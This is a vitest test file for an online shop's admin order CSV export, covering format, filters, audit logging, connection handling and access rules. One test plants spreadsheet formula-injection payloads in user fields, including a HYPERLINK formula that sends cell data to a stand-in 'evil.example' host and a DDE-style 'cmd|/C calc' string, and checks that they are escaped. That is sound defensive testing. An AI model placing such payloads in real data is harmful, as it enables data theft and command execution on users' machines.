import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { cashOrder, fillCart, place } from '#test/checkout.fixtures.server';
import { makeProduct } from '#test/factories.server';
import { move, orderIn } from '#test/orders.server';
import { openTestShop } from '#test/test-shop.server';
import { exportOrders } from './order-export.service.server';

const test = openTestShop();
let admin: { token: string; userId: string };
const orders: { _id: string; orderNumber: string; totalPrice: number }[] = [];

beforeAll(async () => {
  admin = await test.signIn('admin');
  const product = await makeProduct(test.shop.db, {
    name: 'Desk lamp',
    variants: [{ size: 'M', color: 'Red', stock: 99 }],
    listPriceCents: 60_00,
  });
  for (const status of ['processing', 'cancelled', 'shipped'] as const)
    orders.push((await orderIn(test, admin.token, { status, product, quantity: 2 })).order);
});

const file = (query = '') => test.request('GET', `/orders/admin/export${query}`, { token: admin.token });
const numbersOf = ({ body }: { body: string }) => [...body.matchAll(/^(TW-[^,]+),/gm)].map(([, number]) => number);
const numbers = (...places: number[]) => places.map((n) => orders[n]?.orderNumber);

/** Connections that are idle in a transaction. */
async function waitingConnections(): Promise<number> {
  const { rows } = await sql<{ n: number }>`
    SELECT count(*) AS n FROM pg_stat_activity WHERE datname = current_database() AND state = 'idle in transaction'`.execute(test.shop.db);
  return rows[0]?.n ?? 0;
}

describe('the export of orders', () => {
  it('is a CSV file with one line per order, newest first', async () => {
    const { status, headers, body } = await file();
    expect(status).toBe(200);
    expect(headers.get('Content-Type')).toContain('text/csv');
    expect(headers.get('Content-Disposition')).toMatch(/^attachment; filename="orders-\d{4}-\d\d-\d\d\.csv"$/);
    expect(headers.get('Cache-Control')).toBe('no-store');
    const [head, first, ...others] = body.split('\r\n');
    expect(head).toMatch(/^Order Number,Placed,Status,Payment Status,.*,Total,Refunded,/);
    const total = orders[2]?.totalPrice;
    expect(first).toMatch(new RegExp(`^${orders[2]?.orderNumber},20[^,]+Z,shipped,completed,credit_card,Ada Lovelace,customer-`));
    expect(first).toContain(`,2,"2 × Desk lamp (Red, M)",120,`);
    expect(first).toContain(`,${total},0,`);
    expect(others).toHaveLength(3);
    expect(others.at(-1)).toBe('');
    expect(numbersOf({ body })).toEqual(numbers(2, 1, 0));
  });

  it('uses the list’s filters', async () => {
    expect(numbersOf(await file('?status=cancelled'))).toEqual(numbers(1));
    expect(numbersOf(await file('?paymentStatus=completed'))).toEqual(numbers(2, 0));
    expect(numbersOf(await file('?endDate=2020-01-01'))).toEqual([]);
    expect(numbersOf(await file(`?search=${orders[1]?.orderNumber}`))).toEqual(numbers(1));
    expect(numbersOf(await file('?search=lamp&status=shipped'))).toEqual(numbers(2));
  });

  it('prevents user input from being a formula', async () => {
    const customer = await test.signIn();
    const evil = '=HYPERLINK("http://evil.example?x="&A1,"Click")';
    const product = await makeProduct(test.shop.db, { name: '@SUM(1+1)*cmd|/C calc', stock: 9 });
    await fillCart(test, customer.token, [product]);
    await test.shop.db.updateTable('users').set({ firstName: '+1', lastName: '"quoted", too' }).where('id', '=', customer.userId).execute();
    const newAddress = { ...cashOrder().newAddress, firstName: '-2+3', city: evil };
    const { order } = (await place(test, customer.token, { body: cashOrder({ newAddress, orderNotes: '\t=1+1\r\nsecond line' }) })).body;
    await move(test, admin.token, { orderId: order._id, to: 'confirmed' });
    const { body } = await file(`?search=${order.orderNumber}`);
    expect(body).toContain(`"'+1 ""quoted"", too"`);
    expect(body).toContain(`,'-2+3 Lovelace,`);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")"`);
    expect(body).toContain(',1 × @SUM(1+1)*cmd|/C calc,');
    expect(body).not.toMatch(/(^|,|")[=+@-]/m);
  });

  it('is written into the audit log', async () => {
    await file('?status=shipped');
    const { body } = await test.request('GET', '/admin/audit?limit=1', { token: admin.token });
    expect(body.entries).toMatchObject([{ action: 'order.export', admin: { _id: admin.userId }, after: { status: 'shipped' } }]);
  });

  it('releases its connection at the end, and when the client disconnects', async () => {
    await file();
    expect(await waitingConnections()).toBe(0);
    const reader = (await exportOrders(test.shop, { _id: admin.userId, email: 'admin@example.com' }, {})).getReader();
    await reader.read();
    await reader.cancel();
    expect(await waitingConnections()).toBe(0);
  });

  it('uses at most two connections; a third request fails with Retry-After', async () => {
    const open = () => exportOrders(test.shop, { _id: admin.userId, email: 'admin@example.com' }, {});
    const running = await Promise.all([open(), open()]);
    const third = await file();
    expect(third).toMatchObject({ status: 503, body: { code: 'unavailable', message: expect.stringContaining('Two exports') } });
    expect(third.headers.get('Retry-After')).toBeTruthy();
    await Promise.all(running.map((stream) => stream.cancel()));
    expect((await file()).status).toBe(200);
  });

  it('breaks off when its connection does, and never ends like a complete file', async () => {
    const { rows } = await sql<{ id: string }>`SELECT id FROM orders`.execute(test.shop.db);
    const [{ id }] = rows as [{ id: string }];
    await sql`
      INSERT INTO orders (order_number, user_id, status, payment_method, payment_status, stock_state, items_cents, tax_cents, shipping_cents, discount_cents,
        total_cents, shipping_address, estimated_delivery)
      SELECT 'MANY-' || n, user_id, status, payment_method, payment_status, stock_state, items_cents, tax_cents, shipping_cents, discount_cents,
        total_cents, shipping_address, estimated_delivery FROM orders, generate_series(1, 6000) n WHERE id = ${id}`.execute(test.shop.db);
    const reader = (await exportOrders(test.shop, { _id: admin.userId, email: 'admin@example.com' }, {})).getReader();
    await reader.read();
    // It reads a little ahead, and then waits for the client.
    const endConnection = async () => {
      const ended = await sql`
        SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() AND state = 'idle in transaction'`.execute(
        test.shop.db,
      );
      return ended.rows.length;
    };
    await expect.poll(endConnection).toBe(1);
    const readOn = async () => {
      while (!(await reader.read()).done);
    };
    await expect(readOn()).rejects.toThrow();
    expect((await file()).body.match(/\r\n/g)?.length).toBeGreaterThan(6000);
  });

  it('is for admins only, and rejects invalid filters', async () => {
    const { token } = await test.signIn();
    expect((await test.request('GET', '/orders/admin/export')).status).toBe(401);
    expect((await test.request('GET', '/orders/admin/export?status=lost', { token })).status).toBe(403);
    expect((await file('?status=lost')).status).toBe(422);
    expect((await file('?endDate=soon')).status).toBe(422);
  });
});
